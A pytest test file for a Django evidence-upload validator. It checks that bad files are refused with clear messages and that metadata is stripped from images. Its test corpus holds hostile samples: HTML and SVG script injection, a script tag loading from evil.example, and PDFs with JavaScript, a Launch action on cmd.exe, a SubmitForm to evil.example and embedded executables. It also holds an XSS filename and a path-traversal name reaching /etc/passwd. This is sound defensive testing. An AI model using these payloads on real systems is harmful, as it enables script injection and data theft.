"""Evidence upload checks: a corpus of bad files, each refused with a clear
message, and the good ones accepted (images without their metadata)."""

import io
import re
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import RequestFactory
from django.utils import translation
from PIL import ExifTags, Image, PngImagePlugin

from core.uploads import (
    UploadRejected,
    ValidatedUpload,
    clean_upload,
    strip_image_metadata,
    validate_upload,
)

MB = 1024 * 1024


def png_bytes(size=(8, 6), color="blue", **save_kwargs) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, "PNG", **save_kwargs)
    return out.getvalue()


def jpeg_bytes(size=(40, 20), exif=None) -> bytes:
    out = io.BytesIO()
    image = Image.new("RGB", size, "red")
    # The left half is white so a wrong rotation shows in the pixels.
    image.paste("white", (0, 0, size[0] // 2, size[1]))
    image.save(out, "JPEG", **({"exif": exif} if exif is not None else {}))
    return out.getvalue()


def gps_exif() -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneCo"
    exif[ExifTags.Base.Orientation] = 6  # "rotate 90° clockwise to display"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (35.0, 9.0, 30.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (126.0, 51.0, 10.0)
    return exif


def _assemble_pdf(objects: bytes) -> tuple[bytes, dict[int, int]]:
    head = b"%PDF-1.4\n"
    offsets = {
        int(m.group(1)): len(head) + m.start() for m in re.finditer(rb"(?m)^(\d+) 0 obj", objects)
    }
    return head + objects, offsets


def pdf_bytes(body: bytes = b"", eof: bool = True, catalog: bytes = b"") -> bytes:
    """A well-formed PDF (cross-reference table, trailer, startxref) with the
    catalogue, an empty page tree and the objects in `body`."""
    data, offsets = _assemble_pdf(
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + catalog + b">>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n" + body
    )
    size = max(offsets) + 1
    xref = [b"xref\n", f"0 {size}\n".encode(), b"0000000000 65535 f \n"]
    for number in range(1, size):
        if number in offsets:
            xref.append(f"{offsets[number]:010d} 00000 n \n".encode())
        else:
            xref.append(b"0000000000 00000 f \n")
    start = len(data)
    data += b"".join(xref) + f"trailer\n<< /Size {size} /Root 1 0 R >>\n".encode()
    data += f"startxref\n{start}\n".encode()
    return data + (b"%%EOF\n" if eof else b"")


def pdf_with_stream(content: bytes) -> bytes:
    """A PDF 1.5 whose object 5 (`content`, a dictionary) lives compressed in
    object stream 3, found through a cross-reference stream."""
    header = b"5 0 "
    packed = zlib.compress(header + content)
    data, offsets = _assemble_pdf(
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
        b"3 0 obj\n<< /Type /ObjStm /N 1 /First "
        + str(len(header)).encode()
        + b" /Filter /FlateDecode /Length "
        + str(len(packed)).encode()
        + b" >>\nstream\n"
        + packed
        + b"\nendstream\nendobj\n"
    )
    data = data.replace(b"%PDF-1.4", b"%PDF-1.5")
    xref_offset = len(data)
    rows = [(0, 0, 65535), (1, offsets[1], 0), (1, offsets[2], 0), (1, offsets[3], 0)]
    rows += [(0, 0, 0), (2, 3, 0), (1, xref_offset, 0)]
    table = b"".join(
        kind.to_bytes(1, "big") + field.to_bytes(4, "big") + gen.to_bytes(2, "big")
        for kind, field, gen in rows
    )
    data += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length "
        + str(len(table)).encode()
        + b" >>\nstream\n"
        + table
        + b"\nendstream\nendobj\n"
    )
    return data + f"startxref\n{xref_offset}\n%%EOF\n".encode()


def upload(name: str, data: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type="application/octet-stream")


class RawNamedFile(io.BytesIO):
    """A file whose name is passed on untouched (SimpleUploadedFile would
    already reduce it to its basename, as Django's parser does)."""

    def __init__(self, name: str, data: bytes):
        super().__init__(data)
        self.name = name


def zip_bytes() -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


def image_bytes(fmt: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (4, 4), "green").save(out, fmt)
    return out.getvalue()


def png_with_text_chunk(text: str) -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", text)
    return png_bytes(pnginfo=info)


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
)

# (case id, file name, content, expected code)
BAD_FILES = [
    (
        "elf-renamed-pdf",
        "statement.pdf",
        b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 64,
        "unsupported_type",
    ),
    (
        "windows-exe-renamed-pdf",
        "statement.pdf",
        b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 64,
        "unsupported_type",
    ),
    ("svg-with-script", "photo.png", SVG, "active_content"),
    ("svg-named-txt", "notes.txt", SVG, "active_content"),
    ("html-png-polyglot-tail", "photo.png", png_bytes() + HTML, "active_content"),
    (
        "html-png-polyglot-chunk",
        "photo.png",
        png_with_text_chunk("<html><script>x()</script>"),
        "active_content",
    ),
    ("html-after-pdf-header", "letter.pdf", b"%PDF-1.4\n" + HTML + b"\n%%EOF\n", "active_content"),
    ("empty", "empty.pdf", b"", "empty"),
    ("truncated-png", "photo.png", png_bytes(size=(64, 64))[:60], "corrupt"),
    ("pdf-without-eof", "letter.pdf", pdf_bytes(eof=False), "corrupt"),
    ("zip", "archive.pdf", zip_bytes(), "unsupported_type"),
    ("docx", "letter.docx", zip_bytes(), "unsupported_type"),
    ("gif", "picture.gif", image_bytes("GIF"), "unsupported_type"),
    ("webp", "picture.jpg", image_bytes("WEBP"), "unsupported_type"),
    ("text-with-nul", "notes.txt", b"hello\x00world", "unsupported_type"),
    ("text-with-terminal-escape", "notes.txt", b"hello \x1b[31mred\x1b[0m", "unsupported_type"),
    ("latin1-not-utf8", "notes.txt", "caf\u00e9 cr\u00e8me".encode("latin-1"), "unsupported_type"),
    ("jpeg-header-then-garbage", "photo.jpg", b"\xff\xd8\xff\xe0" + b"garbage!" * 100, "corrupt"),
    ("html-named-txt", "notes.txt", HTML, "active_content"),
    (
        "html-lowercase-fragment",
        "notes.txt",
        b"Dear office,\n<Script src=//evil.example/x.js></script>",
        "active_content",
    ),
    (
        "pdf-javascript",
        "letter.pdf",
        pdf_bytes(b"4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"),
        "active_content",
    ),
    (
        "pdf-js-hex-escaped-name",
        "letter.pdf",
        pdf_bytes(b"4 0 obj\n<< /S /J#61vaScript /J#53 (x) >>\nendobj\n"),
        "active_content",
    ),
    (
        "pdf-launch-action",
        "letter.pdf",
        pdf_bytes(b"4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"),
        "active_content",
    ),
    (
        "pdf-js-in-object-stream",
        "letter.pdf",
        pdf_with_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
        "active_content",
    ),
    (
        # Issue 17: the old pattern scanner took this comment for a stream start
        # and blanked the /OpenAction script that follows it.
        "pdf-openaction-after-a-comment-saying-stream",
        "letter.pdf",
        pdf_bytes(
            b"% this line says stream\n"
            b"3 0 obj\n<< /S /JavaScript /JS (app.launchURL('x')) >>\nendobj\n"
            b"% endstream\n",
            catalog=b"/OpenAction 3 0 R ",
        ),
        "active_content",
    ),
    (
        "pdf-openaction-written-in-the-catalogue",
        "letter.pdf",
        pdf_bytes(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> "),
        "active_content",
    ),
    (
        "pdf-script-in-a-string-never-fools-the-parser",
        "letter.pdf",
        pdf_bytes(b"3 0 obj\n<< /Title (endobj) /AA << /O << /S /Launch >> >> >>\nendobj\n"),
        "active_content",
    ),
    (
        "pdf-document-javascript-name-tree",
        "letter.pdf",
        pdf_bytes(
            b"3 0 obj\n<< /Names [(x) 4 0 R] >>\nendobj\n4 0 obj\n<< /S /JavaScript >>\nendobj\n",
            catalog=b"/Names << /JavaScript 3 0 R >> ",
        ),
        "active_content",
    ),
    (
        "pdf-embedded-file",
        "letter.pdf",
        pdf_bytes(
            b"3 0 obj\n<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>\nendobj\n"
            b"4 0 obj\n<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream\nendobj\n",
            catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 3 0 R] >> >> ",
        ),
        "active_content",
    ),
    (
        "pdf-submit-form",
        "letter.pdf",
        pdf_bytes(b"3 0 obj\n<< /S /SubmitForm /F (https://evil.example/) >>\nendobj\n"),
        "active_content",
    ),
    (
        "pdf-garbage-after-header",
        "letter.pdf",
        b"%PDF-1.7\n" + b"\x00\xff" * 400 + b"%%EOF",
        "corrupt",
    ),
    ("markup-file-name", "<img src=x onerror=alert(1)>.png", png_bytes(), "bad_name"),
]


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [case[1:] for case in BAD_FILES],
    ids=[case[0] for case in BAD_FILES],
)
def test_bad_file_is_refused_with_a_clear_message(name, data, code):
    with pytest.raises(UploadRejected) as refused:
        validate_upload(upload(name, data))
    assert refused.value.code == code
    # A sentence a person can act on, not a technical code.
    assert len(refused.value.message) > 30
    assert refused.value.message.endswith(".")


def test_the_bad_file_corpus_is_large_enough():
    assert len(BAD_FILES) >= 15


def test_one_byte_over_the_default_limit_is_refused():
    with pytest.raises(UploadRejected) as refused:
        validate_upload(upload("big.txt", b"a" * (10 * MB + 1)))
    assert refused.value.code == "too_large"
    assert "10.0" in refused.value.message  # "at most 10.0 MB": says what the limit is


def test_exactly_the_limit_is_accepted(settings):
    settings.EVIDENCE_MAX_BYTES = 1000
    assert validate_upload(upload("ok.txt", b"a" * 1000)).size == 1000
    with pytest.raises(UploadRejected):
        validate_upload(upload("big.txt", b"a" * 1001))


def test_the_limit_holds_when_the_declared_size_lies(settings):
    settings.EVIDENCE_MAX_BYTES = 1000
    lying = RawNamedFile("big.txt", b"a" * 5000)
    lying.size = 10
    with pytest.raises(UploadRejected) as refused:
        validate_upload(lying)
    assert refused.value.code == "too_large"


def test_a_decompression_bomb_picture_is_refused(monkeypatch):
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 100)
    with pytest.raises(UploadRejected) as refused:
        validate_upload(upload("bomb.png", png_bytes(size=(20, 20))))
    assert refused.value.code == "too_large"


def test_a_path_traversal_name_given_directly_is_refused():
    with pytest.raises(UploadRejected) as refused:
        validate_upload(RawNamedFile("../../etc/passwd.txt", b"root:x:0:0"))
    assert refused.value.code == "bad_name"
    with pytest.raises(UploadRejected):
        validate_upload(RawNamedFile("..\\..\\windows\\evil.txt", b"text"))


def test_a_path_traversal_name_in_a_real_request_is_reduced_to_its_basename():
    boundary = "BOUNDARY"
    body = (
        f"--{boundary}\r\n"
        'Content-Disposition: form-data; name="file"; filename="../../etc/passwd.txt"\r\n'
        "Content-Type: text/plain\r\n\r\n"
        "my notes\r\n"
        f"--{boundary}--\r\n"
    ).encode()
    request = RequestFactory().generic(
        "POST", "/", body, content_type=f"multipart/form-data; boundary={boundary}"
    )
    result = validate_upload(request.FILES["file"])
    assert result.name == "passwd.txt"
    assert result.data == b"my notes"


@pytest.mark.parametrize(
    ("name", "data", "content_type", "stored_name"),
    [
        ("photo.png", png_bytes(), "image/png", "photo.png"),
        ("photo.jpeg", jpeg_bytes(), "image/jpeg", "photo.jpg"),
        ("Letter (final).PDF", pdf_bytes(), "application/pdf", "Letter (final).pdf"),
        ("진술서.txt", "사건 경위: 2024년 3월…\n".encode(), "text/plain", "진술서.txt"),
        ("bom.txt", "\ufeffwith a byte order mark\r\n\ttabbed".encode(), "text/plain", "bom.txt"),
        # The extension follows the content, never the name.
        ("scan.pdf", png_bytes(), "image/png", "scan.png"),
        ("notes", b"plain words", "text/plain", "notes.txt"),
        ("", b"plain words", "text/plain", "evidence.txt"),
        ("..", b"plain words", "text/plain", "evidence.txt"),
        ("a;b|c*d?.txt", b"plain words", "text/plain", "a_b_c_d.txt"),
        ("x" * 300 + ".txt", b"plain words", "text/plain", "x" * 80 + ".txt"),
    ],
)
def test_good_files_are_accepted_with_a_safe_name(name, data, content_type, stored_name):
    file = RawNamedFile(name, data) if name in {"", ".."} else upload(name, data)
    result = validate_upload(file)
    assert result == ValidatedUpload(
        name=stored_name, size=len(data), content_type=content_type, data=data
    )


def test_a_pdf_with_compressed_streams_of_random_bytes_is_accepted():
    # Image data inside a PDF may contain "/JS" by chance; only dictionaries count.
    noise = bytes(range(256)) * 4 + b"/JS " + bytes(range(256))
    obj = b"3 0 obj\n<< /Length %d >>\nstream\n" % len(noise) + noise + b"\nendstream\nendobj\n"
    assert validate_upload(upload("scan.pdf", pdf_bytes(obj))).content_type == "application/pdf"


def test_a_pdf_written_by_a_pdf_library_with_a_page_and_a_link_is_accepted():
    from pypdf import PdfWriter
    from pypdf.annotations import Link

    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_annotation(0, Link(rect=(10, 10, 100, 30), url="https://example.org/"))
    out = io.BytesIO()
    writer.write(out)
    assert validate_upload(upload("scan.pdf", out.getvalue())).content_type == "application/pdf"


def test_a_pdf_with_javascript_added_by_a_pdf_library_is_refused():
    from pypdf import PdfWriter
    from pypdf.actions import JavaScript

    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_open_action(JavaScript("app.alert('hi');"))
    out = io.BytesIO()
    writer.write(out)
    with pytest.raises(UploadRejected) as refused:
        validate_upload(upload("scan.pdf", out.getvalue()))
    assert refused.value.code == "active_content"


def test_a_pdf_with_an_attachment_added_by_a_pdf_library_is_refused():
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_attachment("run.exe", b"MZ")
    out = io.BytesIO()
    writer.write(out)
    with pytest.raises(UploadRejected) as refused:
        validate_upload(upload("scan.pdf", out.getvalue()))
    assert refused.value.code == "active_content"


def test_a_password_protected_pdf_is_refused_with_its_own_message():
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    with pytest.raises(UploadRejected) as refused:
        validate_upload(upload("scan.pdf", out.getvalue()))
    assert refused.value.code == "encrypted"


def test_refusal_messages_are_translated_to_korean():
    with translation.override("ko"), pytest.raises(UploadRejected) as refused:
        validate_upload(upload("empty.txt", b""))
    assert refused.value.message == "파일이 비어 있습니다. 내용이 있는 파일을 선택해 주세요."


def test_jpeg_gps_exif_is_removed_and_orientation_applied():
    original = jpeg_bytes(size=(40, 20), exif=gps_exif())
    with Image.open(io.BytesIO(original)) as before:
        assert before.getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the test file really has GPS

    result = clean_upload(upload("photo.jpg", original))

    assert result.content_type == "image/jpeg"
    assert result.size == len(result.data)
    assert b"PhoneCo" not in result.data
    with Image.open(io.BytesIO(result.data)) as after:
        assert after.format == "JPEG"
        assert not after.getexif()  # no GPS, no camera, no orientation tag left
        assert "exif" not in after.info and "icc_profile" not in after.info
        # Orientation 6 was applied to the pixels: 40x20 became 20x40, and the
        # white half (left) is now on top.
        assert after.size == (20, 40)
        top, bottom = after.getpixel((10, 5)), after.getpixel((10, 35))
        assert min(top) > 200 and bottom[0] > 200 and bottom[1] < 80


def test_png_text_chunks_and_icc_profile_are_removed():
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Kim Minji, 12 Secret Street")
    info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>GPS 35.15N</x:xmpmeta>")
    out = io.BytesIO()
    image = Image.new("RGBA", (6, 6), (10, 20, 30, 128))
    image.save(out, "PNG", pnginfo=info, icc_profile=b"fake-icc-profile-bytes" * 4)
    original = out.getvalue()
    assert b"Secret Street" in original

    stripped = strip_image_metadata(original, "image/png")

    assert b"Secret Street" not in stripped and b"xmpmeta" not in stripped
    with Image.open(io.BytesIO(stripped)) as after:
        assert after.info.keys() <= {"dpi", "gamma"}
        assert after.getpixel((0, 0)) == (10, 20, 30, 128)  # transparency kept


def test_clean_upload_leaves_pdf_and_text_untouched():
    data = pdf_bytes()
    assert clean_upload(upload("a.pdf", data)).data == data


def test_strip_image_metadata_refuses_non_images():
    with pytest.raises(ValueError):
        strip_image_metadata(b"%PDF-1.4", "application/pdf")


@pytest.mark.parametrize(
    ("fmt", "mode", "save_kwargs", "content_type", "out_mode"),
    [
        ("PNG", "P", {"transparency": 0}, "image/png", "RGBA"),
        ("PNG", "I;16", {}, "image/png", "L"),
        ("PNG", "LA", {}, "image/png", "LA"),
        ("PNG", "1", {}, "image/png", "L"),
        ("JPEG", "CMYK", {}, "image/jpeg", "RGB"),
        ("JPEG", "L", {}, "image/jpeg", "L"),
    ],
)
def test_every_common_image_mode_is_cleaned_not_crashed(
    fmt, mode, save_kwargs, content_type, out_mode
):
    out = io.BytesIO()
    Image.new(mode, (5, 5)).save(out, fmt, **save_kwargs)
    result = clean_upload(upload("picture", out.getvalue()))
    assert result.content_type == content_type
    with Image.open(io.BytesIO(result.data)) as cleaned:
        assert cleaned.mode == out_mode


def multipart_request(data: bytes):
    boundary = "BOUNDARY"
    body = (
        (
            f"--{boundary}\r\n"
            'Content-Disposition: form-data; name="file"; filename="scan.txt"\r\n'
            "Content-Type: text/plain\r\n\r\n"
        ).encode()
        + data
        + f"\r\n--{boundary}--\r\n".encode()
    )
    return body, f"multipart/form-data; boundary={boundary}"


def test_evidence_up_to_the_limit_never_touches_the_disk_unencrypted(settings):
    from django.core.files.uploadedfile import InMemoryUploadedFile

    body, content_type = multipart_request(b"a" * settings.EVIDENCE_MAX_BYTES)
    request = RequestFactory().generic("POST", "/", body, content_type=content_type)

    assert isinstance(request.FILES["file"], InMemoryUploadedFile)  # not a temporary file
    assert validate_upload(request.FILES["file"]).size == settings.EVIDENCE_MAX_BYTES


@pytest.mark.asyncio
async def test_asgi_keeps_an_evidence_sized_request_body_in_memory(settings):
    from django.core.handlers.asgi import ASGIHandler

    body, _content_type = multipart_request(b"a" * settings.EVIDENCE_MAX_BYTES)

    async def spool():
        chunks = [body[i : i + 65536] for i in range(0, len(body), 65536)]
        messages = [{"type": "http.request", "body": c, "more_body": True} for c in chunks]
        messages[-1]["more_body"] = False

        async def receive():
            return messages.pop(0)

        return await ASGIHandler().read_body(receive)

    spooled = await spool()
    try:
        assert spooled._rolled is False  # still a BytesIO: no file under /tmp
        assert spooled.read() == body
    finally:
        spooled.close()

    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 2_621_440  # Django's default ...
    spooled = await spool()
    try:
        assert spooled._rolled is True  # ... would have written the evidence to disk
    finally:
        spooled.close()
